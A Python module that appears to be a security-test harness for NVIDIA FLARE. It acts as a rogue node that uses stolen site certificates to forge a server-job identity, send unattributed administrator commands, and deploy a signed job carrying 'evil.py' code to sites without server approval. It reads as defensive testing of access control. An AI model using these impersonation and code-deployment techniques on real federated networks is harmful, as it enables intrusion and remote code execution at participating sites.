"""A node of FLARE's network that does what it likes: run as a process, told on its standard input what to try.

It uses FLARE's own cells, certificates and registration, as a hospital's administrator with a grudge would.
    {"kit": folder, "port": n, "fqcn": claimed address, "name": claimed client, "tries": [[what, ...], ...]}
Answers with one line of JSON: whether it was let in, and what came back on each try.
"""

from __future__ import annotations

import io
import json
import os
import subprocess
import sys
import tempfile
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

PATIENCE = 4.0  # seconds for an answer
ADMINISTRATOR = "administrator"  # instead of an address: a session as FLARE's console opens it
SERVER_JOB = "server_job"  # how a run's process on the server is called


def attack(kit: Path, port: int, fqcn: str, name: str, *tries: list[Any]) -> subprocess.Popen[str]:
    """To be read with `outcome`; several may be under way at once."""
    env = {**os.environ, "GRPC_VERBOSITY": "NONE", "PYTHONWARNINGS": "ignore"}
    told = {"kit": str(kit), "port": port, "fqcn": fqcn, "name": name, "tries": tries}
    process = subprocess.Popen(
        [sys.executable, __file__],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        env=env,
    )
    assert process.stdin is not None
    process.stdin.write(json.dumps(told))
    process.stdin.close()
    return process


def outcome(process: subprocess.Popen[str]) -> dict[str, Any]:
    assert process.stdout is not None
    with process.stdout as said:
        lines = [line for line in said if line.startswith('{"in"')]
    process.wait(10)
    assert lines, "the attacker itself failed"
    found: dict[str, Any] = json.loads(lines[-1])
    return found


class Node:
    def __init__(self, kit: Path, port: int, fqcn: str, name: str) -> None:
        from nvflare.fuel.f3.cellnet.cell import Cell
        from nvflare.fuel.f3.drivers.driver_params import DriverParams
        from nvflare.private.fed.utils.fed_utils import fobs_initialize

        fobs_initialize()
        self.name, start = name, kit / "startup"
        self._files = [str(start / part) for part in ("rootCA.pem", "client.key", "client.crt")]
        papers = dict(
            zip((DriverParams.CA_CERT, DriverParams.CLIENT_KEY, DriverParams.CLIENT_CERT), self._files, strict=True)
        )
        credentials = {part.value: file for part, file in papers.items()} | {
            DriverParams.CONNECTION_SECURITY.value: "mtls"
        }
        self.cell = Cell(fqcn, f"grpc://localhost:{port}", True, credentials, create_internal_listener=False)
        if fqcn.startswith("server."):  # the process of a run, which FLARE would connect to its parent
            self.cell.core_cell._create_bb_external_connector()
        self.cell.start()

    def register(self) -> None:
        """As FLARE's client does; raises if it is refused. Who has the server's key needs nobody's leave."""
        from nvflare.apis.fl_context import FLContext
        from nvflare.apis.signal import Signal
        from nvflare.fuel.sec.authn import set_add_auth_headers_filters
        from nvflare.private.defs import ClientType
        from nvflare.private.fed.authenticator import Authenticator
        from nvflare.private.fed.utils.identity_utils import IdentityAsserter

        ca, key, certificate = self._files
        if self.name == SERVER_JOB:
            signed = IdentityAsserter(key, certificate).sign(f"{self.name}evil", return_str=True)
            set_add_auth_headers_filters(self.cell, self.name, "evil", signed)
            end = time.monotonic() + PATIENCE
            while not self.cell.core_cell.is_cell_reachable("server") and time.monotonic() < end:
                time.sleep(0.05)
            return
        desk = Authenticator(
            self.cell,
            "hemofed",
            self.name,
            ClientType.REGULAR,
            "coordinator",
            True,
            ca,
            key,
            certificate,
            PATIENCE,
            1.0,
            PATIENCE,
        )
        token, signature, session, _ = desk.authenticate(FLContext(), Signal())
        set_add_auth_headers_filters(self.cell, self.name, token, signature, session)

    def admin(self, target: str, topic: str, body: str) -> str:
        """A command of the administrator, sent straight to a site, without a word about who gave it."""
        from nvflare.private.admin_defs import Message
        from nvflare.private.defs import CellChannel

        return self.send(target, CellChannel.CLIENT_MAIN, topic, Message(topic, body))

    def deploy(self, target: str, touches: str) -> str:
        """A job's folder with code, signed and given to a site without asking the server."""
        from nvflare.lighter.utils import load_private_key_file, sign_folders
        from nvflare.private.admin_defs import Message
        from nvflare.private.defs import CellChannel, RequestHeader, TrainingTopic

        packed, (_, key, certificate) = io.BytesIO(), self._files
        with tempfile.TemporaryDirectory() as name, zipfile.ZipFile(packed, "w") as folder:
            for file, text in {
                "custom/evil.py": f"open({touches!r}, 'w')",
                "config/config_fed_client.json": "{}",
            }.items():
                Path(name, file).parent.mkdir()
                Path(name, file).write_text(text)
            sign_folders(name, load_private_key_file(key), certificate)
            for found in Path(name).rglob("*"):
                folder.write(found, found.relative_to(name))
        said = Message(TrainingTopic.DEPLOY, packed.getvalue())
        meta = {
            "submitter_name": self.name,
            "submitter_org": "hemofed",
            "submitter_role": "project_admin",
            "byoc": True,
        }
        said.set_headers({RequestHeader.JOB_ID: "evil", RequestHeader.JOB_META: meta, RequestHeader.APP_NAME: "app"})
        return self.send(target, CellChannel.CLIENT_MAIN, TrainingTopic.DEPLOY, said)

    def send(self, target: str, channel: str, topic: str, payload: Any = None) -> str:
        from nvflare.fuel.f3.cellnet.defs import MessageHeaderKey
        from nvflare.private.defs import new_cell_message

        answer = self.cell.send_request(channel, topic, target, new_cell_message({}, payload), PATIENCE)
        said = getattr(answer.payload, "body", answer.payload)
        return f"{answer.get_header(MessageHeaderKey.RETURN_CODE)}: {str(said)[:2000]}"


def as_administrator(kit: Path, user: str) -> list[str]:
    """What an administrator's session is good for, if there is one."""
    from nvflare.fuel.flare_api.flare_api import new_secure_session

    session = new_secure_session(user, str(kit), timeout=PATIENCE)
    return [str(session.list_jobs()), str(session.get_system_info())]


def _main() -> None:
    told = json.loads(sys.stdin.read())
    kit, results = Path(told["kit"]), list[str]()
    try:
        if told["fqcn"] == ADMINISTRATOR:
            results = as_administrator(kit, told["name"])
        else:
            node = Node(kit, told["port"], told["fqcn"], told["name"])
            node.register()
            with ThreadPoolExecutor(16) as hands:
                results = list(hands.map(lambda one: getattr(node, one[0])(*one[1:]), told["tries"]))
        found = {"in": True, "tries": results}
    except BaseException as error:
        found = {"in": False, "why": f"{type(error).__name__}: {error}", "tries": results}
    sys.stdout.write(json.dumps(found) + "\n")
    sys.stdout.flush()
    os._exit(0)  # threads of FLARE's would hold it


if __name__ == "__main__":
    _main()
